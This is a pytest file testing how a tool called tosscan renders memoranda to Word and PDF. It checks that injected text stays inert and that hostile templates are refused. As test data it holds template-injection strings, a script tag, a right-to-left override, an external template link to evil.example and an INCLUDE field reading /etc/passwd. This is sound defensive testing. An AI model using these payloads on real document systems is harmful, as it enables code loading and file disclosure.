from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.text.paragraph import Paragraph

from tosscan.errors import UsageError
from tosscan.findings.assessment import Assessment
from tosscan.findings.decision import Decision
from tosscan.report.memo import MemoWriter
from tosscan.report.memorandum import LANGUAGES
from tosscan.report.pdf import PdfWriter
from tosscan.resources import CHECKOUT, template

Build = Callable[..., Assessment]

PDFTOTEXT = shutil.which("pdftotext")
SOFFICE = shutil.which("soffice")
HOSTILE = (
    "Pay {{ 7*7 }} {% for x in y %} {{r x }} {_{ kept }_} {%p if a %} <w:br/> <script>alert(1)</script> "
    "&amp; & ]]> #panic() $x$ @you \\u{1F600} \x07bell \x0cfeed \u202eesrever\u202c {{ memo.title }} end."
)
NORMAL = "The guest shall pay for every seed."


def written(assessment: Assessment, **options: Any) -> bytes:
    file = io.BytesIO()
    MemoWriter(**options).write(assessment, file)
    return file.getvalue()


def printed(assessment: Assessment, **options: Any) -> bytes:
    file = io.BytesIO()
    PdfWriter(**options).write(assessment, file)
    return file.getvalue()


def paragraphs(data: bytes) -> str:
    """Return the words of a Word file, tables too, with breaks of lines as LF."""
    document: Any = docx.Document(io.BytesIO(data))
    return "\n".join(Paragraph(each, document).text for each in document.element.body.iter(f"{W}p"))


def _style(paragraph: Paragraph) -> str | None:
    return paragraph.style.name if paragraph.style is not None else None


W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


@pytest.fixture
def hostile(build: Build) -> Assessment:
    """Return an assessment of a text that tries to act, with a finding on it that was confirmed."""
    made = build(
        (("heading", "{{ title }} <b>"), ("paragraph", HOSTILE)),
        ((HOSTILE, "dispute_costs", 3),),
        reason="{% raise %} <&>",
    )
    confirmed = Decision("confirmed", "{{ by }} <i>", "2026-03-05", "{%tr x %} & why")
    return replace(
        made,
        status="partly_assessed",
        findings=tuple(replace(one, decision=confirmed) for one in made.findings),
    )


def kept(words: str) -> str:
    """Return ``words`` as they may be printed: what acts on a reader is shown as a sign."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e]", "\ufffd", words)


@pytest.mark.parametrize("language", LANGUAGES)
def test_hostile_text_neither_acts_nor_is_lost_in_word(hostile: Assessment, language: str) -> None:
    data = written(hostile, language=language, audience="user")
    words = paragraphs(data)
    assert words.count(kept(HOSTILE)) >= 2
    assert "{{ by }} <i>" in words
    assert "{%tr x %} & why" in words
    body = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    assert "<script" not in body
    assert "\u202e" not in body


@pytest.mark.skipif(PDFTOTEXT is None, reason="needs poppler: make system")
def test_hostile_text_neither_acts_nor_is_lost_in_pdf(hostile: Assessment, tmp_path: Path) -> None:
    path = tmp_path / "memo.pdf"
    path.write_bytes(printed(hostile, audience="user"))
    assert PDFTOTEXT is not None
    told = subprocess.run([PDFTOTEXT, path, "-"], capture_output=True, text=True, check=True).stdout
    joined = "".join(told.split())
    for words in (
        "{{7*7}}",
        "{_{kept}_}",
        "<script>alert(1)</script>",
        "#panic()$x$@you",
        "{{memo.title}}end.",
    ):
        assert words in joined


def test_headings_are_those_of_word_and_number_themselves(hostile: Assessment) -> None:
    document = docx.Document(io.BytesIO(written(hostile)))
    names = {_style(each) for each in document.paragraphs}
    assert {"Heading 1", "Heading 2", "Annex Heading", "Quote"} <= names
    for name in ("Heading 1", "Heading 2", "Annex Heading"):
        numbering = document.styles[name].element.find(f"{W}pPr/{W}numPr/{W}numId")
        assert numbering is not None
    assert not any(re.match(r"\d", each.text) for each in document.paragraphs if _style(each) == "Heading 1")


def test_every_page_has_the_stamp_and_its_number(hostile: Assessment) -> None:
    document = docx.Document(io.BytesIO(written(hostile)))
    (part,) = document.sections
    assert part.header.paragraphs[0].text.startswith("ASSESSED IN PART")
    assert not part.different_first_page_header_footer
    assert "PAGE" in part.footer._element.xml


def test_properties_name_neither_the_text_nor_people(hostile: Assessment) -> None:
    about = docx.Document(io.BytesIO(written(hostile))).core_properties
    assert (about.title, about.author, about.last_modified_by) == ("Memorandum", "tosscan", "")
    assert b"Rules of Parrot" not in zipfile.ZipFile(io.BytesIO(written(hostile))).read("docProps/core.xml")


@pytest.mark.parametrize("write", [written, printed])
def test_same_bytes_at_the_same_time(
    hostile: Assessment, write: Callable[..., bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1772496000")
    first = write(hostile, language="ru")
    assert first == write(hostile, language="ru")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1772596000")
    assert first != write(hostile, language="ru")


def test_columns_of_tables_have_their_widths(rich: Assessment) -> None:
    tables = docx.Document(io.BytesIO(written(rich))).tables
    documents = next(each for each in tables if each.cell(0, 0).text == "Title")
    widths = [cell.width for cell in documents.rows[1].cells]
    assert len(widths) == 5
    assert widths[0] > widths[1]


@pytest.mark.skipif(PDFTOTEXT is None, reason="needs poppler: make system")
@pytest.mark.parametrize("language", LANGUAGES)
def test_pdf_says_what_the_word_file_says(
    rich: Assessment, language: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Both are to be of the same second.
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1790000000")
    path = tmp_path / "memo.pdf"
    path.write_bytes(printed(rich, language=language))
    assert PDFTOTEXT is not None
    told = subprocess.run([PDFTOTEXT, path, "-"], capture_output=True, text=True, check=True).stdout
    letters = re.sub(r"\W", "", told)
    lines = [re.sub(r"\W", "", line) for line in paragraphs(written(rich, language=language)).splitlines()]
    # What is broken over two pages has the head of the page in it; no paragraph here is that long.
    missing = [line for line in lines if line.casefold() not in letters.casefold()]
    assert len(missing) <= len(lines) // 50


@pytest.mark.skipif(PDFTOTEXT is None, reason="needs poppler: make system")
@pytest.mark.parametrize(("words", "warned"), [("您可以 pay.", True), ("Ақша төлеңіз, ﬁne €5.", False)])
def test_pdf_warns_of_letters_that_it_may_not_show(
    build: Build, words: str, *, warned: bool, tmp_path: Path
) -> None:
    path = tmp_path / "memo.pdf"
    path.write_bytes(printed(build((("paragraph", words),), ((words, "dispute_costs", 3),))))
    assert PDFTOTEXT is not None
    told = subprocess.run([PDFTOTEXT, path, "-"], capture_output=True, text=True, check=True).stdout
    assert ("Letters of other scripts" in told) is warned


def own_template(changes: Mapping[str, bytes | None] = {}, **swaps: str) -> bytes:
    """Return the shipped template with parts added or (None) left out; ``swaps`` go into its body."""
    with zipfile.ZipFile(io.BytesIO(template("memo/memo.en.docx").read_bytes())) as archive:
        parts: dict[str, bytes | None] = {name: archive.read(name) for name in archive.namelist()}
    parts.update(changes)
    body = parts["word/document.xml"]
    assert body is not None
    for old, new in swaps.items():
        body = body.replace(PLACES[old].encode(), new.encode())
    parts["word/document.xml"] = body
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in parts.items():
            if data is not None:
                archive.writestr(name, data)
    return file.getvalue()


PLACES = {
    "title": "{{ memo.title }}",
    "text": "{{ block.text }}",
    "loop": "{%p for block in section.blocks %}",
}
EXTERNAL = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)
FIELD = (
    "<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r>"
    '<w:r><w:instrText>TEXT "/etc/passwd"</w:instrText></w:r></w:p>'
)


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"no archive", "it is no Word file"),
        (own_template({"word/document.xml.": b"", "[Content_Types].xml": None}), "it is no Word file"),
        (own_template({"word/vbaProject.bin": b"x"}), "could act"),
        (own_template({"word/embeddings/one.docx": b"x"}), "could act"),
        (own_template({"word/_rels/settings.xml.rels": EXTERNAL}), "links to another file"),
        (own_template({"word/settings.xml": b"<!DOCTYPE a><a/>"}), "declares"),
        (own_template({"word/header1.xml": b"<w:hdr/>"}), "memo.stamp"),
        (own_template({"word/header1.xml": None}), "memo.stamp"),
        (own_template(title="{{ memo.titel }}"), "titel"),
        (own_template(title="{{ client }}"), "client"),
        (own_template(title="{{ memo.title"), "a brace is not closed"),
        (own_template(title="{{ memo.__class__.__mro__ }}"), "__class__"),
        (own_template(title="{{ memo.title.upper() }}"), "may not use call"),
        (own_template(title="{{ memo.title * 999999999 }}"), "may not use mul"),
        (own_template(title="{{ memo.title|center(999999999) }}"), "center"),
        (own_template(title="{% set a = memo %}"), "may not use assign"),
        (own_template(title="{% include 'x' %}"), "may not use include"),
        (own_template(title="{% macro a() %}{% endmacro %}"), "may not use macro"),
        (own_template(loop="{%p for block in memo.sections %}"), "a loop within a loop"),
        (own_template(loop="{%p for block in section.blocks recursive %}"), "recursive"),
        (own_template(title="x</w:t></w:r></w:p>" + FIELD + "<w:p><w:r><w:t>"), "a field that could act"),
    ],
)
def test_hostile_template_is_refused_in_one_line(data: bytes, told: str, tmp_path: Path) -> None:
    path = tmp_path / "firm.docx"
    path.write_bytes(data)
    with pytest.raises(UsageError) as caught:
        MemoWriter(template=path)
    message = str(caught.value)
    assert message.startswith(f"--template {path}: ")
    assert told in message
    assert "\n" not in message


def test_template_that_is_not_there_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no such file"):
        MemoWriter(template=tmp_path / "none.docx")


def test_firm_replaces_the_template(hostile: Assessment, tmp_path: Path) -> None:
    path = tmp_path / "firm.docx"
    path.write_bytes(own_template(title="Parrot &amp; Partners: {{ memo.title }}"))
    words = paragraphs(written(hostile, template=path))
    assert "Parrot & Partners: Memorandum" in words
    assert kept(HOSTILE) in words


def test_templates_are_what_the_script_makes(tmp_path: Path) -> None:
    script = CHECKOUT / "templates" / "memo" / "make.py"
    copy = shutil.copy(script, tmp_path / "make.py")
    subprocess.run(["python3", copy], check=True, cwd=tmp_path)
    for name in (f"{kind}.{language}.docx" for kind in ("memo", "dossier") for language in LANGUAGES):
        made = zipfile.ZipFile(tmp_path / name)
        kept_ = zipfile.ZipFile(io.BytesIO(template(f"memo/{name}").read_bytes()))
        assert {part: made.read(part) for part in made.namelist()} == {
            part: kept_.read(part) for part in kept_.namelist()
        }


@pytest.mark.system
@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="needs LibreOffice: make system")
def test_libreoffice_opens_the_memo(rich: Assessment, tmp_path: Path) -> None:
    (tmp_path / "memo.docx").write_bytes(written(rich, language="ru"))
    home = f"-env:UserInstallation=file://{tmp_path}/home"
    assert SOFFICE is not None
    subprocess.run(
        [
            SOFFICE,
            "--headless",
            home,
            "--convert-to",
            "txt:Text",
            "--outdir",
            tmp_path,
            tmp_path / "memo.docx",
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    told = (tmp_path / "memo.txt").read_text("utf-8-sig")
    assert "Вопросы и краткие ответы" in told
    assert re.search(r"^1\.\s*Вопросы", told, re.MULTILINE)
    assert re.search(r"^\s*Приложение A\. ", told, re.MULTILINE)
